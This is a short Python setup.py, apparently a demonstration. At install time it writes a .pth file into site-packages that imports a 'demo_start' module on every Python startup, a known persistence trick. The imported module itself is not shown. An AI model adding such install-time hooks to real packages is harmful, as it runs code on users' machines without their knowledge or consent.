import os
import site
from setuptools import setup

with open(os.path.join(site.getsitepackages()[0], "zz_demo.pth"), "w") as f:
    f.write("import demo_start\n")
setup(name="demo", version="1.0")
